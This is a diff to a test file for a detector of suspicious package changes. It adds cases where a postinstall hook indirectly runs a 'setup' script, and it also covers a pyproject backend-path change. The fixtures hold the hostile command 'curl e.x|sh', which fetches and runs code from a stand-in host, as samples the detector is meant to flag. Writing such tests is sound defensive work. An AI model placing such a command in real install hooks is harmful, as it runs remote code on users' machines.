@@ -30,6 +30,10 @@ FLAGGED = [
       for hook in ("preinstall", "install", "postinstall", "prepare", "prepublish")),
     ("package.json", _package(postinstall="node a.js"), _package(postinstall="curl e.x|sh"),
      "scripts.postinstall changed"),
+    *((f"{folder}package.json", _package(postinstall=f"{run} setup", setup="node a.js"),
+       _package(postinstall=f"{run} setup", setup="node a.js && curl e.x|sh"),
+       "scripts.setup changed (run by scripts.postinstall: postinstall → setup)")
+      for folder in ("", "web/") for run in ("npm run", "yarn", "pnpm run", "run-s")),
     ("lib/pyproject.toml", '[build-system]\nrequires = ["flit_core"]\n',
      '[build-system]\nrequires = ["flit_core"]\nbackend-path = ["."]\n',
      "build-system.backend-path added"),
